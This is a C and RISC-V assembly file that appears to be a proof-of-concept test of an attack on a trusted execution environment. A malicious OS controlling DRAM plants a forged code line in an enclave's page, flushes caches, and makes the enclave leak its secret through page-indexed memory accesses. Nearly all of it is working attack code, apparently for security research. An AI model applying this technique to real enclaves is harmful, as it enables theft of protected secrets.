// In the kernel's place: an operating system that holds the DRAM, too. A context with a secret waits in a call; nothing
// of its line of code is in a cache when it goes on. DRAM then makes another line of it, and holds what would give it
// away: the forged line reads addresses that tell the secret.
#include "kernel.h"

#define LINE 64
// Nobody else's memory is under the same nodes of a tree.
#define CODE_AT 0x80d00000UL
// What caches of metadata hold is of these addresses afterwards.
#define SWEPT_FROM 0x80a00000UL
#define SWEPT_TO 0x80c00000UL
#define SWEPT_STRIDE 512
// The attack comes at some time in these ticks.
#define WAITED 400

// Six bits of the secret each, by the lines of a page each
__asm__(
    ".section .rodata\n.balign 64\n.option push\n.option norvc\n"
    "forged: ld t2, 0(s0)\n lui t3, 1\n li t4, 11\n"
    "1: andi t5, t2, 63\n slli t5, t5, 6\n add t5, t5, s2\n lbu t5, 0(t5)\n"
    "srli t2, t2, 6\n add s2, s2, t3\n addi t4, t4, -1\n bnez t4, 1b\n"
    "2: j 2b\n"
    ".org forged + 64\n.option pop\n.text\n");
extern const uint8_t forged[LINE], program_code[];

static uint64_t pages[HELD_PAGES];

static void empty_caches(void) {
  __asm__ volatile("fence.i" ::: "memory");
  for (uint64_t at = SWEPT_FROM; at < SWEPT_TO; at += SWEPT_STRIDE) *(volatile uint64_t *)at;
}

void boot(void) {
  open_floats();
  enable_contexts();
  process *process = new_process(0);
  for (unsigned i = 0; i < HELD_PAGES; i++) pages[i] = new_page();
  // The kernel's own page, until it is a context's: memory has a true state of it with the forged line
  process->own[0] = CODE_AT;
  begin_anew(process, 0);
  memcpy((void *)(CODE_AT + HELD_LINE - OWN), forged, LINE);
  empty_caches();
  print("held: forged in memory at %lu\n", cycle());
  wait(WAITED);
  begin_anew(process, 0);
  add_segment(process, TEE_ZERO, pages, HELD_PAGES);
  expect(run(process) == USER_CALL && process->user.x[A7] == CALL_NUMBER);
  print("held: mask ");
  for (unsigned i = 0; i < LINE; i++) print("%02x", forged[i] ^ program_code[HELD_LINE - OWN + i]);
  print("\nheld: pages");
  for (unsigned i = 0; i < HELD_PAGES; i++) print(" %lx", pages[i]);
  print("\nheld: line at %lx\n", CODE_AT + HELD_LINE - OWN);
  empty_caches();
  print("held: waits at %lu\n", cycle());
  wait(WAITED);
  process->user.pc += TEE_GATE_RESULT;
  print("held: the context gives %lx\n", finish(process));
  end_run();
}
